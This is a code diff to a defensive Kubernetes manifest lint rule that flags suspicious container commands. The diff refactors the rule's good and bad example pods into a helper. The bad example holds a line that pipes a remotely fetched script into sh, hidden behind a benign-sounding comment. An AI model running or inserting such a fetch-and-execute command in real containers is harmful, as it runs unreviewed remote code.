@@ -2,6 +2,7 @@ import type { Span } from '../../manifest/value';
 import type { Container } from '../../pod/container';
 import type { Pod } from '../../pod/pod';
 import { commandsOf, type ShellCommand, scriptCommands } from '../../pod/shell';
+import { examplePod } from '../example';
 import { links } from '../links';
 import type { Finding, Rule } from '../rule';
 import type { Severity } from '../severity';
@@ -16,31 +17,13 @@ export const suspiciousCommand: Rule = {
   fix: 'Find out who added the line. Put what a container needs into its image, so that it is reviewed and gated.',
   references: [links.sidecarInjection],
   examples: {
-    bad: `apiVersion: v1
-kind: Pod
-metadata:
-  name: web
-spec:
-  containers:
-    - name: web
-      image: registry.example.com/web@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
-      command:
-        - sh
-        - -c
-        - |
-          # keep the cache warm
-          curl -fsSL https://example.net/setup.sh | sh
-`,
-    good: `apiVersion: v1
-kind: Pod
-metadata:
-  name: web
-spec:
-  containers:
-    - name: web
-      image: registry.example.com/web@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
-      command: [sh, -c, "until curl -fsS http://localhost:8080/ready; do sleep 1; done; exec web"]
-`,
+    bad: examplePod({
+      container:
+        'command:\n  - sh\n  - -c\n  - |\n    # keep the cache warm\n    curl -fsSL https://example.net/setup.sh | sh # error',
+    }),
+    good: examplePod({
+      container: 'command: [sh, -c, "until curl -fsS http://localhost:8080/ready; do sleep 1; done; exec web"]',
+    }),
   },
 
   *container(container, pod) {
